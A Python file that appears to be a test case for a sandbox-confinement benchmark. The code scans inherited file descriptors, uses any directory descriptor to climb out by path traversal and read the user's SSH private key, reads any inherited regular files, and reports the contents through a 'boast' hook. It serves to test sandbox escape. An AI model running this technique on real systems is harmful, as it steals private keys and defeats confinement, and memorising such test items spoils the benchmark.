#: title = "Reads every descriptor that it inherited, and climbs up from the folders among them"
#: why = "An open descriptor is a key that no path rule takes away."
#: answer = "either"
#: ends = ["any", "timeout"]
#: boasts = true
import os
import select
import stat

for fd in range(3, 256):
    try:
        kind = os.fstat(fd).st_mode
    except OSError:
        continue
    try:
        if stat.S_ISDIR(kind):
            key = os.open("../" * 20 + "@HOME@/.ssh/id_ed25519".lstrip("/"), os.O_RDONLY, dir_fd=fd)
            boast(os.read(key, 4096).decode("latin-1"))
        elif stat.S_ISREG(kind):
            boast(os.pread(fd, 4096, 0).decode("latin-1"))
    except OSError:
        pass


def add(a, b):
    return a + b
